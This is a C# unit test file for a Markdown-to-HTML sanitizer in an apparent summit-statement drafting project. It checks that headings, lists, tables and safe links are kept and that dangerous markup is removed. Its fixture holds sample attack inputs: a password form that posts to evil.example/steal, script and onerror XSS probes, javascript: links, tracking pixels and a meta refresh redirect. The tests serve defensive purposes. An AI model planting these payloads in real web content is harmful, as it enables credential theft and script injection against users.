using SummitCoordination.Statements.Drafting;

namespace SummitCoordination.Statements.Tests;

/// <summary>Issue 9, section 4: a published text keeps formatting, lists, tables, headings and links, and nothing that acts or loads.</summary>
public sealed class SanitizerTests
{
    private const string Markdown = """
        ## Water and energy

        The parties **agree** to *cooperate*, with ~~old~~ text and `code`.

        - first
        - second

        | Party | Share |
        |-------|-------|
        | KAZ   | 20 %  |

        > A quoted line.

        See [the secretariat](https://c5.example.org/secretariat) or [mail us](mailto:desk@c5.example.org).

        <form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Send</button></form>

        <textarea>typed</textarea><select><option>x</option></select>

        ![tracker](https://evil.example/pixel.png)

        <img src="https://evil.example/img.png" onerror="alert(1)">

        <iframe src="https://evil.example/frame"></iframe><video src="https://evil.example/v.mp4"></video><audio src="a.mp3"></audio>

        <embed src="x.swf"><object data="x"></object><svg><circle r="1"/></svg>

        <script>alert(1)</script><style>body{display:none}</style>

        <a href="javascript:alert(1)">click</a> <a href="data:text/html,hi">data</a> <a href="ftp://files.example/x">ftp</a>

        <p style="background:url(https://evil.example/bg.png)" onclick="alert(1)">styled</p>

        <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="https://evil.example/s.css">
        """;

    [Fact]
    public void Formatting_lists_tables_headings_quotes_and_safe_links_are_kept()
    {
        var html = StatementText.ToHtml(Markdown);
        foreach (var kept in new[] { "<h2", "<strong>agree</strong>", "<em>cooperate</em>", "<del>old</del>", "<code>code</code>", "<ul>", "<li>first</li>",
                     "<table>", "<th>Party</th>", "<td>KAZ</td>", "<blockquote>", "href=\"https://c5.example.org/secretariat\"", "href=\"mailto:desk@c5.example.org\"" })
        {
            Assert.Contains(kept, html);
        }

        Assert.Contains("rel=\"noopener noreferrer nofollow\"", html);
    }

    [Fact]
    public void Forms_inputs_images_media_scripts_styles_and_unsafe_links_are_removed()
    {
        var html = StatementText.ToHtml(Markdown).ToLowerInvariant();
        foreach (var removed in new[] { "<form", "<input", "<button", "<textarea", "<select", "<img", "<iframe", "<video", "<audio", "<embed", "<object",
                     "<svg", "<script", "<style", "<base", "<meta", "<link", "evil.example", "javascript:", "data:text", "ftp:", "onerror", "onclick", "style=" })
        {
            Assert.DoesNotContain(removed, html);
        }

        Assert.Contains("styled", html);
    }
}
